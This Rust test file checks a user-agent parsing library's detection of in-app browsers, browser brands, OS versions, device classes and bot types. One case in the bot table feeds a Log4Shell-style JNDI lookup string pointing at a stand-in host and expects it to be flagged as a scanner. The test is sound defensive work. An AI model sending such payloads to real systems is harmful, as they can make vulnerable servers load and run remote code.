//! What our lists and rules say beyond uap-core, as tables: one line for each rule that matters.
#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::print_stdout,
    reason = "a test stops at what it does not expect"
)]

use lookup::{Agent, Agents, Device, Hints, Reason, Verdict};
use std::sync::Arc;

const IPHONE: &str = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko)";
const WEBVIEW: &str = "Mozilla/5.0 (Linux; Android 14; SM-S911B Build/UP1A.231005.007; wv) AppleWebKit/537.36 \
     (KHTML, like Gecko) Version/4.0 Chrome/130.0.6723.102 Mobile Safari/537.36";
const ANDROID: &str = "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 \
     Mobile Safari/537.36";
const WINDOWS: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) \
     Chrome/130.0.0.0 Safari/537.36";
const MAC: &str = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) \
     Chrome/130.0.0.0 Safari/537.36";

fn read(user_agent: &str) -> Arc<Agent> {
    hinted(user_agent, &Hints::default())
}

fn hinted(user_agent: &str, hints: &Hints<'_>) -> Arc<Agent> {
    static AGENTS: std::sync::OnceLock<Agents> = std::sync::OnceLock::new();
    AGENTS.get_or_init(|| Agents::load().unwrap()).read(user_agent, hints)
}

#[test]
fn a_browser_inside_an_app_is_named_after_the_app() {
    let cases = [
        (WEBVIEW, " [FB_IAB/FB4A;FBAV/486.0.0.66.70;IABMV/1;]", "Facebook", "486.0.0.66.70"),
        (WEBVIEW, " MetaIAB Facebook/486.0", "Facebook", ""),
        (
            IPHONE,
            " Mobile/15E148 [FBAN/FBIOS;FBAV/480.0.0.37.107;FBSV/18.1]",
            "Facebook",
            "480.0.0.37.107",
        ),
        (
            IPHONE,
            " Mobile/15E148 MetaIAB Facebook [FBAN/FBIOS;FBAV/540.0.0.1.2;]",
            "Facebook",
            "540.0.0.1.2",
        ),
        (
            IPHONE,
            " Mobile/15E148 [FBAN/MessengerForiOS;FBAV/480.0.0.28;]",
            "Messenger",
            "480.0.0.28",
        ),
        (
            IPHONE,
            " Mobile/15E148 [FBAN/MessengerLiteForiOS;FBAV/480.0.0.28;]",
            "Messenger Lite",
            "480.0.0.28",
        ),
        (WEBVIEW, " [FBAN/EMA;FBAV/350.0.0.8.104;]", "Facebook Lite", "350.0.0.8.104"),
        (WEBVIEW, " [FB_IAB/Orca-Android;FBAV/480.0.0.28;]", "Messenger", "480.0.0.28"),
        (
            IPHONE,
            " Mobile/15E148 Instagram 350.0.0.22.103 (iPhone15,2; iOS 18_1)",
            "Instagram",
            "350.0.0.22.103",
        ),
        (WEBVIEW, " Instagram 350.0.0.0 Android (34/14; 480dpi) IABMV/1", "Instagram", "350"),
        (
            IPHONE,
            " Mobile/15E148 Barcelona 289.0.0.12.109 (iPhone14,5)",
            "Threads",
            "289.0.0.12.109",
        ),
        (WEBVIEW, " trill_370104 BytedanceWebview/d8a21c6", "TikTok", "370104"),
        (
            IPHONE,
            " Mobile/15E148 musical_ly_37.1.0 JsSdk/2.0 BytedanceWebview/d8a21c6",
            "TikTok",
            "37.1.0",
        ),
        (IPHONE, " Mobile/15E148 BytedanceWebview/d8a21c6", "TikTok", ""),
        (
            IPHONE,
            " Mobile/15E148 Snapchat/13.10.0.40 (like Safari/8619.2.8, panda)",
            "Snapchat",
            "13.10.0.40",
        ),
        (IPHONE, " Mobile/15E148 [Pinterest/iOS]", "Pinterest", ""),
        (WEBVIEW, " [Pinterest/Android]", "Pinterest", ""),
        (IPHONE, " Mobile/15E148 Safari Line/14.16.0", "LINE", "14.16.0"),
        (WEBVIEW, " MicroMessenger/8.0.50.2701(0x28003253) NetType/WIFI", "WeChat", "8.0.50.2701"),
        (
            IPHONE,
            " GSA/340.3.689937600 Mobile/15E148 Safari/604.1",
            "Google App",
            "340.3.689937600",
        ),
        (IPHONE, " Mobile/15E148 Twitter for iPhone/10.60", "X", "10.60"),
        (WEBVIEW, " TwitterAndroid", "X", ""),
        (IPHONE, " Mobile/15E148 [LinkedInApp]/9.30.1234", "LinkedIn", "9.30.1234"),
        (WEBVIEW, " KAKAOTALK 2410630", "KakaoTalk", "2410630"),
        (WEBVIEW, " NAVER(inapp; search; 2000; 12.7.5)", "Naver", "12.7.5"),
        (WEBVIEW, " Viber/27.4.0.0", "Viber", "27.4.0.0"),
        (WEBVIEW, "", "Chrome WebView", "130.0.6723.102"),
    ];
    for (head, tail, browser, version) in cases {
        let agent = read(&format!("{head}{tail}"));
        assert_eq!((&*agent.browser, &*agent.browser_version), (browser, version), "{tail}");
        assert_eq!((agent.verdict, agent.device), (Verdict::Human, Device::Phone), "{tail}");
    }
}

#[test]
fn a_browser_that_looks_like_another_keeps_its_name() {
    let cases = [
        (WINDOWS, " OPR/115.0.0.0", "Opera", "115"),
        (WINDOWS, " OPR/115.0.0.0 (Edition GX)", "Opera GX", "115"),
        (WINDOWS, " Edg/130.0.0.0", "Edge", "130"),
        (WINDOWS, " Vivaldi/7.0.3495.6", "Vivaldi", "7.0.3495.6"),
        (WINDOWS, " YaBrowser/24.10.0.0", "Yandex Browser", "24.10.0.0"),
        (ANDROID, " EdgA/130.0.0.0", "Edge", "130"),
        (ANDROID, " OPR/85.0.0.0", "Opera", "85"),
        (ANDROID, " SamsungBrowser/26.0", "Samsung Internet", "26.0"),
        (ANDROID, " XiaoMi/MiuiBrowser/14.6.0-gn", "Mi Browser", "14.6.0"),
        (ANDROID, " HuaweiBrowser/15.0.4.312", "Huawei Browser", "15.0.4.312"),
        (ANDROID, " VivoBrowser/12.3.5.9", "vivo Browser", "12.3.5.9"),
        (ANDROID, " HeyTapBrowser/45.8.4.9", "HeyTap Browser", "45.8.4.9"),
        (ANDROID, " UCBrowser/13.7.8.1322", "UC Browser", "13.7.8.1322"),
        (ANDROID, " DuckDuckGo/5", "DuckDuckGo", "5"),
        (ANDROID, " NewlyMadeBrowser/1.2.3", "NewlyMade Browser", "1.2.3"),
        (IPHONE, " CriOS/130.0.6723.90 Mobile/15E148 Safari/604.1", "Chrome", "130.0.6723.90"),
        (IPHONE, " FxiOS/132.0 Mobile/15E148 Safari/605.1.15", "Firefox", "132.0"),
        (IPHONE, " Version/18.1 Mobile/15E148 Safari/604.1", "Safari", "18.1"),
    ];
    for (head, tail, browser, version) in cases {
        let agent = read(&format!("{head}{tail}"));
        assert_eq!((&*agent.browser, &*agent.browser_version), (browser, version), "{tail}");
    }
}

#[test]
fn a_model_that_sounds_like_a_browser_or_a_robot_is_a_phone() {
    for model in [
        "CUBOT X18",
        "HTC Butterfly",
        "Spider 8",
        "Atom 2X",
        "Iron Va",
        "Wileyfox Spark",
        "X3_Soul_PRO",
    ] {
        let agent = read(&ANDROID.replace("10; K", &format!("13; {model}")));
        let found = (&*agent.browser, agent.device, agent.verdict);
        assert_eq!(found, ("Chrome", Device::Phone, Verdict::Human), "{model}");
        assert!(
            agent.model.contains(model) || model.contains(&*agent.model),
            "{model}: {}",
            agent.model
        );
    }
}

#[test]
fn a_version_that_browsers_freeze_is_not_believed() {
    let firefox =
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:132.0) Gecko/20100101 Firefox/132.0";
    let safari = |version: &str| format!("{IPHONE} Version/{version} Mobile/15E148 Safari/604.1");
    let cases = [
        (ANDROID.to_owned(), "Android", ""),
        (ANDROID.replace("10; K", "10; SM-A505F"), "Android", "10"),
        (ANDROID.replace("10; K", "14; Pixel 8"), "Android", "14"),
        (MAC.to_owned(), "macOS", ""),
        (firefox.to_owned(), "macOS", ""),
        (MAC.replace("10_15_7", "10_14_6"), "macOS", "10.14.6"),
        (WINDOWS.to_owned(), "Windows", "10"),
        (safari("18.6"), "iOS", "18.7"),
        (safari("26.6"), "iOS", "26.6"),
        (safari("27.0.1"), "iOS", "27.0.1"),
        (safari("260.0"), "iOS", "18.7"),
    ];
    for (user_agent, os, version) in cases {
        let agent = read(&user_agent);
        assert_eq!((&*agent.os, &*agent.os_version), (os, version), "{user_agent}");
    }
}

#[test]
fn client_hints_go_before_what_the_user_agent_freezes() {
    let hints = |platform, version| Hints {
        platform: Some(platform),
        platform_version: Some(version),
        ..Hints::default()
    };
    let cases = [
        (WINDOWS, hints("\"Windows\"", "\"15.0.0\""), "Windows", "11"),
        (WINDOWS, hints("\"Windows\"", "\"13.0.0\""), "Windows", "11"),
        (WINDOWS, hints("\"Windows\"", "\"10.0.0\""), "Windows", "10"),
        (WINDOWS, hints("\"Windows\"", "\"0.3.0\""), "Windows", "8.1"),
        (WINDOWS, hints("\"Windows\"", "\"0.1.0\""), "Windows", "7"),
        (WINDOWS, hints("\"Windows\"", "\"\""), "Windows", "10"),
        (ANDROID, hints("\"Android\"", "\"14.0.0\""), "Android", "14"),
        (MAC, hints("\"macOS\"", "\"15.1.0\""), "macOS", "15.1"),
        (MAC, hints("\"macOS\"", "\"garbage\""), "macOS", ""),
        // A phone that asks for the page for computers.
        (
            "Mozilla/5.0 (X11; Linux x86_64) Chrome/130.0.0.0 Safari/537.36",
            hints("\"Android\"", "\"14.0.0\""),
            "Android",
            "14",
        ),
        // A hint that contradicts the user agent in earnest is not believed.
        (IPHONE, hints("\"Windows\"", "\"15.0.0\""), "iOS", "18.7"),
    ];
    for (user_agent, hints, os, version) in cases {
        let agent = hinted(user_agent, &hints);
        assert_eq!((&*agent.os, &*agent.os_version), (os, version), "{hints:?}");
    }
}

#[test]
fn brands_name_the_browser_where_the_user_agent_only_names_the_engine() {
    let grease = r#""Not/A)Brand";v="8", "Chromium";v="130""#;
    let cases = [
        (WINDOWS, format!(r#"{grease}, "Google Chrome";v="130""#), "Chrome", "130"),
        (WINDOWS, format!(r#"{grease}, "Brave";v="130""#), "Brave", "130"),
        (WINDOWS, format!(r#"{grease}, "Microsoft Edge";v="130""#), "Edge", "130"),
        (WINDOWS, format!(r#"{grease}, "Opera GX";v="115""#), "Opera GX", "115"),
        (ANDROID, format!(r#"{grease}, "DuckDuckGo";v="130""#), "DuckDuckGo", "130"),
        (ANDROID, format!(r#"{grease}, "Android WebView";v="130""#), "Chrome", "130"),
        (ANDROID, grease.to_owned(), "Chrome", "130"),
        ("", format!(r#"{grease}, "Vivaldi";v="7.0""#), "Vivaldi", "7.0"),
    ];
    for (user_agent, list, browser, version) in cases {
        let hints = Hints { ua: Some(&list), ..Hints::default() };
        let agent = hinted(user_agent, &hints);
        assert_eq!((&*agent.browser, &*agent.browser_version), (browser, version), "{list}");
    }
    let full = Hints {
        full_version_list: Some(r#""Google Chrome";v="130.0.6723.117""#),
        ..Hints::default()
    };
    assert_eq!(&*hinted(WINDOWS, &full).browser_version, "130.0.6723.117");
    let inside = Hints { requested_with: Some("com.zhiliaoapp.musically"), ..Hints::default() };
    assert_eq!(&*hinted(WEBVIEW, &inside).browser, "TikTok");
}

#[test]
fn the_class_of_device_follows_model_form_and_system() {
    let android = |model: &str, mobile: &str| {
        format!(
            "Mozilla/5.0 (Linux; Android 13; {model}) AppleWebKit/537.36 (KHTML, like Gecko) \
             Chrome/120.0.0.0 {mobile}Safari/537.36"
        )
    };
    let cases = [
        (android("SM-S911B", "Mobile "), Device::Phone),
        (android("SM-S911B", ""), Device::Phone),
        (android("SM-X710", "Mobile "), Device::Tablet),
        (android("SM-X710", ""), Device::Tablet),
        (android("K", "Mobile "), Device::Phone),
        (android("K", ""), Device::Tablet),
        (android("Redmi Pad SE", "Mobile "), Device::Tablet),
        (android("BAH4-W09", "Mobile "), Device::Tablet),
        (android("Coolpad 8720", "Mobile "), Device::Phone),
        (android("BRAVIA 4K VH21", ""), Device::Tv),
        (android("AFTMM", ""), Device::Tv),
        (android("55U6510 Build/PTT1.190222.001", ""), Device::Tv),
        (android("Retroid Pocket 3 Plus", "Mobile "), Device::Console),
        (android("SM-R920", "Mobile "), Device::Other),
        (android("Samsung Chromebook 3", ""), Device::Desktop),
        (
            "Mozilla/5.0 (iPad; CPU OS 17_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148"
                .to_owned(),
            Device::Tablet,
        ),
        ("Mozilla/5.0 (iPod touch; CPU iPhone OS 12_5 like Mac OS X)".to_owned(), Device::Other),
        (
            "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) Chrome/130.0.0.0 Safari/537.36".to_owned(),
            Device::Desktop,
        ),
        (
            "Mozilla/5.0 (Web0S; Linux/SmartTV) Chrome/79.0.3945.79 Safari/537.36".to_owned(),
            Device::Tv,
        ),
        (
            "Mozilla/5.0 (PlayStation 5 3.03/SmartTV) AppleWebKit/605.1.15".to_owned(),
            Device::Console,
        ),
        (
            "Mozilla/5.0 (Mobile; Nokia_8110_4G; rv:48.0) Gecko/48.0 Firefox/48.0 KAIOS/2.5"
                .to_owned(),
            Device::Phone,
        ),
        (
            "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Tablet PC 2.0)".to_owned(),
            Device::Desktop,
        ),
        ("LG-A165".to_owned(), Device::Phone),
        (WINDOWS.to_owned(), Device::Desktop),
        (String::new(), Device::Other),
    ];
    for (user_agent, device) in cases {
        assert_eq!(read(&user_agent).device, device, "{user_agent}");
    }
    let model = Hints { model: Some("\"Pixel Tablet\""), ..Hints::default() };
    let agent = hinted(ANDROID, &model);
    assert_eq!((agent.device, &*agent.model), (Device::Tablet, "Pixel Tablet"));
    let form = Hints { form_factors: Some("\"Tablet\""), mobile: Some("?1"), ..Hints::default() };
    assert_eq!(hinted(ANDROID, &form).device, Device::Tablet);
    let mobile = Hints { mobile: Some("?1"), ..Hints::default() };
    assert_eq!(hinted(&android("K", ""), &mobile).device, Device::Phone);
}

#[test]
fn programs_of_platforms_have_reasons_of_their_own() {
    use Verdict::{Bot, Human, Preview};
    let cases = [
        ("", Bot(Reason::EmptyUserAgent)),
        ("   ", Bot(Reason::EmptyUserAgent)),
        (
            "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
            Preview(Reason::LinkPreview),
        ),
        (
            "meta-externalads/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
            Bot(Reason::AdReview),
        ),
        ("facebookcatalog/1.0", Bot(Reason::AdReview)),
        ("AdsBot-Google (+http://www.google.com/adsbot.html)", Bot(Reason::AdReview)),
        (
            "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) \
             Chrome/130.0.0.0 Mobile Safari/537.36 (compatible; AdsBot-Google-Mobile; +http://www.google.com/mobile/adsbot.html)",
            Bot(Reason::AdReview),
        ),
        (
            "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 \
             (compatible; TikTokSpider; ttspider-feedback@tiktok.com)",
            Bot(Reason::AdReview),
        ),
        (
            "Mozilla/5.0 (compatible; adidxbot/2.0; +http://www.bing.com/bingbot.htm)",
            Bot(Reason::AdReview),
        ),
        (
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            Bot(Reason::SearchEngine),
        ),
        (
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
            Bot(Reason::AiCrawler),
        ),
        ("WhatsApp/2.23.20.0 A", Preview(Reason::LinkPreview)),
        ("TelegramBot (like TwitterBot)", Preview(Reason::LinkPreview)),
        (
            "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
            Preview(Reason::LinkPreview),
        ),
        ("curl/8.5.0", Bot(Reason::HttpLibrary)),
        ("python-requests/2.32.3", Bot(Reason::HttpLibrary)),
        ("Go-http-client/2.0", Bot(Reason::HttpLibrary)),
        (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/130.0.0.0 Safari/537.36",
            Bot(Reason::Headless),
        ),
        (
            "Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
            Bot(Reason::Monitor),
        ),
        ("${jndi:ldap://x.example/a}", Bot(Reason::Scanner)),
        ("NobodyKnowsThis/1.0 (+https://crawler.example/about)", Bot(Reason::Crawler)),
        ("Mozilla/5.0 (compatible; NobodyKnowsThis/1.0)", Bot(Reason::Crawler)),
        ("Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)", Human),
        (WINDOWS, Human),
        (IPHONE, Human),
    ];
    for (user_agent, verdict) in cases {
        assert_eq!(read(user_agent).verdict, verdict, "{user_agent}");
    }
}
